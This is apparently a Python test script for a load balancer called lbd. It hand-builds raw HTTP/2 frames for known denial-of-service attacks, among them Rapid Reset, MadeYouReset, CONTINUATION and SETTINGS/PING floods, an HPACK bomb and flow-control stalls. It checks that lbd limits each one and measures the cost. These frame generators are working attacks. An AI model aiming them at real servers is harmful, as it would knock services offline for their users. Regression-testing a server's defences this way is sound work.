#!/usr/bin/python3
"""The HTTP/2 attack battery for lbd's l7_h2_attack_test: raw frames (hyperframe, hpack).

  h2_attacks.py ATTACK PORT ADMIN_PORT LBD_PID [N]

Each attack goes on a connection of its own and is sent whole without reading lbd's answers
(the floods: not reading the ACKs, so they would pile up in lbd), but for MadeYouReset and the
window dribble, which wait for lbd's resets or bytes by their nature; meanwhile a well-behaved
client on another connection (python3-h2) asks for /good; then the attack connection is read
until GOAWAY or EOF. lbd's RSS (VmRSS of LBD_PID) is sampled throughout. Prints `key=value`
lines for the C++ test:

  goaway=CODE|None   the GOAWAY's error code          closed=1   lbd closed the connection
  frames=N           how many of the attack's frames lbd took before the GOAWAY (see each attack)
  elapsed_ms=N       from the attack's last byte to the GOAWAY
  cause=LABEL delta=N  lbd_http2_limits_total{cause=LABEL} before and after
  good=STATUS        the well-behaved client's answer    reset=CODE  the attack stream's RST_STREAM
  rss_before_kib=N rss_peak_kib=N   lbd_cpu_ms=N  lbd's CPU time (user + system) during the attack

Attacks (N: frames or streams sent):
  rapid_reset N      HEADERS + RST_STREAM pairs (CVE-2023-44487); frames: streams lbd took
                     (the GOAWAY's last stream id)
  made_you_reset N   HEADERS (content-length: 10) + DATA of 1 byte with END_STREAM: lbd resets
                     each stream itself (CVE-2025-8671); in batches of 20 streams, each sent once
                     the resets of the one before came; frames: lbd's RST_STREAMs
  continuation N     HEADERS + N empty CONTINUATION frames (CVE-2024-27316 class)
  hpack_bomb N       stream 1 puts a 4,000-byte field in the dynamic table, then N streams each
                     refer to it 4,000 times (16 MB of header list from 4 KB on the wire);
                     frames: the bombs lbd answered (431) or reset before the GOAWAY
  settings_flood N   SETTINGS frames (CVE-2019-9515); frames: SETTINGS ACKs
  ping_flood N       PING frames (CVE-2019-9512); frames: PING ACKs
  empty_data N       a POST, then N empty DATA frames (CVE-2019-9518)
  zero_window        SETTINGS_INITIAL_WINDOW_SIZE 0 and a large download that never opens
                     (lbd's body_idle_ms resets it; the idle timeout then ends the connection)
  window_dribble N   the same, opened by N WINDOW_UPDATEs of 1 byte, each sent once the byte
                     before came; frames: 1-byte DATA frames
  slow_headers       half a header block, then nothing (lbd's client_header_ms)
  idle               the preface and SETTINGS, then nothing (lbd's idle_timeout_ms)
"""
import os
import socket
import struct
import sys
import threading
import time
import urllib.request

import hpack
import hyperframe.frame as hf

import h2.config
import h2.connection
import h2.events

TIMEOUT = 10.0
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BIG_BODY = 64 << 20  # a download lbd cannot hold whole
CAUSES = {
    "rapid_reset": "reset_rate", "made_you_reset": "server_resets", "continuation": "continuations",
    "hpack_bomb": "header_list", "settings_flood": "settings_flood", "ping_flood": "ping_flood",
    "empty_data": "empty_data", "zero_window": "idle_timeout", "window_dribble": "small_window_update",
    "slow_headers": "header_timeout", "idle": "idle_timeout",
}


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def headers_frame(sid, block, end_stream=True, end_headers=True):
    return frame(0x1, (0x1 if end_stream else 0) | (0x4 if end_headers else 0), sid, block)


def settings_frame(**values):
    ids = {"initial_window_size": 0x4, "max_frame_size": 0x5, "header_table_size": 0x1}
    return frame(0x4, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in values.items()))


def request(path, method="GET", extra=()):
    return [(":method", method), (":scheme", "http"), (":authority", "lbd.test"), (":path", path)] + list(extra)


# --- what the attack looks like from outside --------------------------------------------------

def rss_kib(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def cpu_ms(pid):
    """lbd's user and system CPU time so far (/proc/PID/stat, fields 14 and 15)."""
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) * 1000 // os.sysconf("SC_CLK_TCK")


class RssSampler(threading.Thread):
    """lbd's RSS every few milliseconds until stop(): its peak."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid, self.peak, self.done = pid, rss_kib(pid), threading.Event()
        self.before = self.peak

    def run(self):
        while not self.done.wait(0.005):
            self.peak = max(self.peak, rss_kib(self.pid))

    def stop(self):
        self.done.set()
        self.join()
        self.peak = max(self.peak, rss_kib(self.pid))


def limit_counts(admin):
    """lbd_http2_limits_total of listener "front", by cause."""
    text = urllib.request.urlopen("http://127.0.0.1:%d/metrics" % admin, timeout=TIMEOUT).read().decode()
    prefix = 'lbd_http2_limits_total{listener="front",cause="'
    counts = {}
    for line in text.splitlines():
        if line.startswith(prefix):
            cause, value = line[len(prefix):].split('"} ')
            counts[cause] = int(value)
    return counts


def good_client(port):
    """A well-behaved client on a connection of its own: the status of GET /good (or what failed)."""
    try:
        sock = socket.create_connection(("127.0.0.1", port), timeout=TIMEOUT)
        conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True,
                                                                            header_encoding="utf-8"))
        conn.initiate_connection()
        conn.send_headers(1, request("/good"), end_stream=True)
        sock.sendall(conn.data_to_send())
        status, body, end = None, b"", time.time() + TIMEOUT
        while time.time() < end:
            data = sock.recv(65536)
            if not data:
                return "eof"
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.ResponseReceived):
                    status = dict(ev.headers).get(":status")
                elif isinstance(ev, h2.events.DataReceived):
                    body += ev.data
                    conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                elif isinstance(ev, h2.events.StreamEnded):
                    sock.close()
                    return status if b"server=" in body else "bad_body"
                elif isinstance(ev, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    return "reset"
            sock.sendall(conn.data_to_send())
        return "timeout"
    except OSError as e:
        return "error:" + type(e).__name__


class Attack:
    """One attack connection: raw bytes out without reading, then raw frames in."""

    def __init__(self, port):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=TIMEOUT)
        self.buf = b""
        self.frames = []
        self.eof = False
        self.sent_at = time.time()

    def send(self, data):
        """Sends as much of `data` as lbd takes; stops when lbd closes or stops reading for 2 s."""
        self.sock.settimeout(2.0)
        try:
            view = memoryview(data)
            while view:
                n = self.sock.send(view[:65536])
                view = view[n:]
        except OSError:
            pass
        self.sock.settimeout(TIMEOUT)
        self.sent_at = time.time()

    def read_until(self, done, deadline=TIMEOUT):
        """Frames until `done(frames)`, EOF or the deadline."""
        end = time.time() + deadline
        while not done(self.frames) and not self.eof and time.time() < end:
            try:
                data = self.sock.recv(1 << 20)
            except socket.timeout:
                break
            except OSError:
                data = b""
            if not data:
                self.eof = True
                break
            self.buf += data
            while len(self.buf) >= 9:
                f, length = hf.Frame.parse_frame_header(memoryview(self.buf[:9]))
                if len(self.buf) < 9 + length:
                    break
                f.parse_body(memoryview(self.buf[9:9 + length]))
                self.buf = self.buf[9 + length:]
                self.frames.append(f)
        return self.frames

    def goaway(self):
        return next((f for f in self.frames if isinstance(f, hf.GoAwayFrame)), None)

    def read_to_goaway(self):
        """Everything up to the GOAWAY, then up to EOF (lbd closes once the GOAWAY is out)."""
        self.read_until(lambda fs: any(isinstance(f, hf.GoAwayFrame) for f in fs))
        self.goaway_ms = int((time.time() - self.sent_at) * 1000)
        self.read_until(lambda fs: False, deadline=3.0)

    def count(self, kind, before_goaway=True, pred=lambda f: True):
        n = 0
        for f in self.frames:
            if before_goaway and isinstance(f, hf.GoAwayFrame):
                break
            n += isinstance(f, kind) and pred(f)
        return n


# --- the attacks: each returns (bytes to send, after(attack) -> frames lbd took) -----------------

def rapid_reset(n):
    enc, out = hpack.Encoder(), b""
    for i in range(n):
        sid = 2 * i + 1
        out += headers_frame(sid, enc.encode(request("/rr%d" % i))) + frame(0x3, 0, sid, struct.pack(">I", 8))
    return out, lambda a: (a.goaway().last_stream_id + 1) // 2 if a.goaway() else None


def made_you_reset(n, batch=20):
    # Each stream is one lbd resets (RST_STREAM PROTOCOL_ERROR), which frees its slot without a
    # reset of the client's: the attack keeps opening streams in batches under
    # max_concurrent_streams, each batch once lbd's resets of the previous one came.
    enc = hpack.Encoder()

    def batches(a):
        for first in range(batch, n, batch):
            a.read_until(lambda fs: a.count(hf.RstStreamFrame, before_goaway=False) >= first or a.goaway(),
                         deadline=2.0)
            if a.goaway() or a.eof:
                return
            out = b""
            for i in range(first, min(first + batch, n)):
                out += stream(i)
            a.send(out)

    def stream(i):
        block = enc.encode(request("/myr%d" % i, "POST", [("content-length", "10")]))
        return headers_frame(2 * i + 1, block, end_stream=False) + frame(0x0, 0x1, 2 * i + 1, b"x")
    return b"".join(stream(i) for i in range(min(batch, n))), \
        lambda a: a.count(hf.RstStreamFrame, before_goaway=False), batches


def continuation(n):
    block = hpack.Encoder().encode(request("/cont"))
    out = headers_frame(1, block, end_headers=False) + frame(0x9, 0, 1) * n + frame(0x9, 0x4, 1)
    return out, lambda a: None


def statuses(frames):
    """The :status of each response head, in order (lbd's heads use no dynamic table entries)."""
    dec = hpack.Decoder()
    return [dict(dec.decode(f.data)).get(":status") for f in frames if isinstance(f, hf.HeadersFrame)]


def hpack_int(value, prefix_bits, first=0):
    """RFC 7541 §5.1: `value` with an N-bit prefix, the byte's other bits `first`."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def hpack_bomb(n):
    # By hand, so that the only dynamic table entry is the bomb's: :method GET, :scheme http and
    # :path / from the static table, :authority a literal not indexed (RFC 7541 §6.2.2).
    head = b"\x82\x86\x84\x01\x08lbd.test"
    # A 4,000-byte field with incremental indexing: alone in the 4,096-byte table, index 62.
    bomb = b"\x40\x06x-bomb" + hpack_int(4000, 7) + b"b" * 4000
    out = headers_frame(1, head + bomb)
    # 0xbe: indexed field 62, one byte for 4,038 bytes of header list; 4,000 of them are 16 MB.
    for i in range(1, n + 1):
        out += headers_frame(2 * i + 1, head + b"\xbe" * 4000)

    def taken(a):
        # Each bomb answered 431 or reset (INTERNAL_ERROR: lbd stopped decoding it).
        upto = a.frames[:a.frames.index(a.goaway())] if a.goaway() else a.frames
        return statuses(upto).count("431") + sum(isinstance(f, hf.RstStreamFrame) and f.error_code == 2 for f in upto)
    return out, taken


def settings_flood(n):
    return settings_frame(initial_window_size=65535) * n, \
        lambda a: a.count(hf.SettingsFrame, pred=lambda f: "ACK" in f.flags)


def ping_flood(n):
    return b"".join(frame(0x6, 0, 0, struct.pack(">Q", i)) for i in range(n)), \
        lambda a: a.count(hf.PingFrame, pred=lambda f: "ACK" in f.flags)


def empty_data(n):
    block = hpack.Encoder().encode(request("/empty", "POST"))
    return headers_frame(1, block, end_stream=False) + frame(0x0, 0, 1) * n, lambda a: None


def zero_window():
    return headers_frame(1, hpack.Encoder().encode(request("/bytes/%d" % BIG_BODY))), \
        lambda a: a.count(hf.DataFrame, before_goaway=False)


def window_dribble(n):
    # Once the response has begun (its head read), WINDOW_UPDATEs of 1 byte one at a time, each
    # after lbd's 1-byte DATA frame: the stream is never idle for body_idle_ms.
    def dribble(a):
        a.read_until(lambda fs: any(isinstance(f, (hf.HeadersFrame, hf.GoAwayFrame)) for f in fs))
        for _ in range(n):
            if a.goaway() or a.eof:
                return
            seen = a.count(hf.DataFrame, before_goaway=False)
            a.send(frame(0x8, 0, 1, struct.pack(">I", 1)))
            a.read_until(lambda fs: a.count(hf.DataFrame, before_goaway=False) > seen or a.goaway(), deadline=2.0)
    return headers_frame(1, hpack.Encoder().encode(request("/bytes/%d" % BIG_BODY))), \
        lambda a: a.count(hf.DataFrame), dribble


def slow_headers():
    block = hpack.Encoder().encode(request("/slow", extra=[("x-pad", "p" * 100)]))
    return headers_frame(1, block[:len(block) // 2], end_headers=False), lambda a: None


def idle():
    return b"", lambda a: None


def main():
    name, port, admin, pid = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
    n = int(sys.argv[5]) if len(sys.argv) > 5 else 0
    make = globals()[name]
    payload, frames_taken, *then = make(n) if n else make()
    # A zero window for the flow-control attacks; the client's SETTINGS in every case.
    settings = settings_frame(initial_window_size=0) if name in ("zero_window", "window_dribble") else frame(0x4, 0, 0)
    cause = CAUSES[name]
    before = limit_counts(admin)
    cpu_before = cpu_ms(pid)
    sampler = RssSampler(pid)
    sampler.start()
    attack = Attack(port)
    attack.send(PREFACE + settings + payload)
    # The well-behaved client asks while the attack is under way.
    good = []
    client = threading.Thread(target=lambda: good.append(good_client(port)))
    client.start()
    if then:
        then[0](attack)
    client.join()
    attack.read_to_goaway()
    sampler.stop()
    goaway = attack.goaway()
    after = limit_counts(admin)
    print("good=%s" % good[0])
    print("goaway=%s" % (goaway.error_code if goaway else None))
    print("closed=%d" % attack.eof)
    print("frames=%s" % frames_taken(attack))
    print("elapsed_ms=%d" % attack.goaway_ms)
    reset = next((f.error_code for f in attack.frames if isinstance(f, hf.RstStreamFrame)), None)
    print("reset=%s" % reset)
    print("cause=%s delta=%d" % (cause, after.get(cause, 0) - before.get(cause, 0)))
    print("limits=%s" % ",".join("%s:%d" % (c, after[c] - before.get(c, 0)) for c in sorted(after)
                                 if after[c] != before.get(c, 0)))
    print("rss_before_kib=%d rss_peak_kib=%d" % (sampler.before, sampler.peak))
    print("lbd_cpu_ms=%d" % (cpu_ms(pid) - cpu_before))


if __name__ == "__main__":
    main()
